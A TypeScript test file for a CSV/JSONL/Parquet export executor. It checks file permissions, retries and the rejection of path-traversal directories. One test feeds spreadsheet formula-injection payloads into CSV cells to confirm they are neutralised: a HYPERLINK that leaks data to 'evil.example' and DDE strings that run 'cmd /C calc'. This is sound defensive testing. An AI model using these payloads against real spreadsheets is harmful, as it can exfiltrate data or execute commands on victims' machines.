import { mkdtemp, readFile, readdir, rm, stat } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { FileEffect } from '../../core/contract.js'
import { getDestination, runTransform } from '../../core/registry.js'
import { SAMPLE_NOW, sampleInputs } from '../../../testing/destinations/samples.js'
import { csvCell, executeFile, readParquetRows, resolveExportDir } from './file-executor.js'

let dir: string
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'kindred-export-'))
})
afterEach(async () => {
  await rm(dir, { recursive: true, force: true })
})

function effects(format: string): FileEffect[] {
  return runTransform(
    getDestination('builtin.file-export'),
    [sampleInputs.profile, sampleInputs.audienceAdd, sampleInputs.audienceRemove],
    {
      settings: { directory: 'exports', format, traits: ['email', 'first_name', 'plan'] },
      destinationId: 'dest_files',
      now: SAMPLE_NOW,
    },
  ).effects as FileEffect[]
}

describe('executeFile', () => {
  it('writes CSV with a header that reads back', async () => {
    const [profiles, audiences] = effects('csv')
    const r = await executeFile(audiences!, dir)
    expect(r).toMatchObject({ ok: true, rowCount: 2 })
    await executeFile(profiles!, dir)
    const rows = parse(await readFile(join(dir, audiences!.path), 'utf8'), {
      columns: true,
    }) as Record<string, string>[]
    expect(rows.map((x) => [x.action, x.profile_id, x.first_name, x.plan])).toEqual([
      ['add', 'prof_ada', 'Ada', 'pro'],
      ['remove', 'prof_grace', 'Grace', ''],
    ])
    expect(Object.keys(rows[0]!)).toEqual(audiences!.columns)
  })

  it('writes JSONL, one object per line with the declared columns', async () => {
    const [profiles] = effects('jsonl')
    await executeFile(profiles!, dir)
    const lines = (await readFile(join(dir, profiles!.path), 'utf8'))
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l))
    expect(lines).toEqual([
      {
        profile_id: 'prof_ada',
        email: ' Ada.Lovelace@Example.com ',
        first_name: 'Ada',
        plan: 'pro',
        exported_at: '2026-11-25T10:00:00.000Z',
      },
    ])
  })

  it('writes Parquet that DuckDB reads back', async () => {
    const [, audiences] = effects('parquet')
    const r = await executeFile(audiences!, dir)
    expect(r.ok).toBe(true)
    const rows = await readParquetRows(join(dir, audiences!.path))
    expect(rows.map((x) => [x.action, x.profile_id, x.plan ?? null])).toEqual([
      ['add', 'prof_ada', 'pro'],
      ['remove', 'prof_grace', null],
    ])
  })

  it('writes Parquet with any column name and text, owner-only, with no work files left', async () => {
    const [profiles] = effects('parquet')
    const columns = ['profile_id', 'say "hi"', "it's", 'nested']
    const rows = [
      { profile_id: 'p1', 'say "hi"': "a'b", "it's": null, nested: { a: [1, 'é'] } },
      { profile_id: 'p2', 'say "hi"': '', nested: 7 },
    ]
    const r = await executeFile({ ...profiles!, columns, rows }, dir)
    expect(r).toMatchObject({ ok: true, rowCount: 2 })
    expect(await readParquetRows(join(dir, profiles!.path))).toEqual([
      { profile_id: 'p1', 'say "hi"': "a'b", "it's": null, nested: '{"a":[1,"é"]}' },
      { profile_id: 'p2', 'say "hi"': '', "it's": null, nested: '7' },
    ])
    const file = await stat(join(dir, profiles!.path))
    expect((file.mode & 0o777).toString(8)).toBe('600')
    expect(await readdir(join(dir, 'profiles'))).toEqual([profiles!.path.split('/')[1]])
  })

  it('a retry replaces the file (no temporary files left, no duplicates)', async () => {
    const [profiles] = effects('csv')
    await executeFile(profiles!, dir)
    await executeFile(profiles!, dir)
    expect(await readdir(join(dir, 'profiles'))).toEqual([profiles!.path.split('/')[1]])
  })

  it('refuses paths that escape the base directory', async () => {
    const [profiles] = effects('csv')
    const r = await executeFile({ ...profiles!, path: '../escape.csv' }, dir)
    expect(r).toMatchObject({ ok: false, error: { code: 'UNSAFE_PATH', retryable: false } })
  })

  it('neutralises spreadsheet formulas in CSV cells', async () => {
    const [profiles] = effects('csv')
    const evil = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '-2+3',
      '\t=1',
      '\r=1',
    ]
    const rows = evil.map((v, i) => ({ profile_id: `p${i}`, email: v }))
    await executeFile({ ...profiles!, rows }, dir)
    const back = parse(await readFile(join(dir, profiles!.path), 'utf8'), {
      columns: true,
    }) as Record<string, string>[]
    expect(back.map((r) => r.email)).toEqual(evil.map((v) => `'${v}`))
    expect(csvCell('plain')).toBe('plain')
    expect(csvCell('a=b')).toBe('a=b')
  })

  it('writes exports owner-only (files 0600, directories 0700)', async () => {
    const [profiles] = effects('csv')
    await executeFile(profiles!, dir, 'crm/daily')
    const file = await stat(join(dir, 'crm/daily', profiles!.path))
    const folder = await stat(join(dir, 'crm'))
    expect((file.mode & 0o777).toString(8)).toBe('600')
    expect((folder.mode & 0o777).toString(8)).toBe('700')
  })

  it('keeps the directory setting inside the export root', async () => {
    const [profiles] = effects('csv')
    for (const directory of ['../escape-rt', '/tmp/abs-export', 'a/../../b', '..']) {
      const r = await executeFile(profiles!, join(dir, 'root'), directory)
      expect(r, directory).toMatchObject({
        ok: false,
        error: { code: 'UNSAFE_PATH', retryable: false },
      })
    }
    expect(await readdir(dir)).toEqual([])
    expect(resolveExportDir('/srv/exports', 'crm')).toBe('/srv/exports/crm')
    expect(resolveExportDir('/srv/exports', '.')).toBe('/srv/exports')
    expect(resolveExportDir('/srv/exports', '/etc')).toBeNull()
  })
})
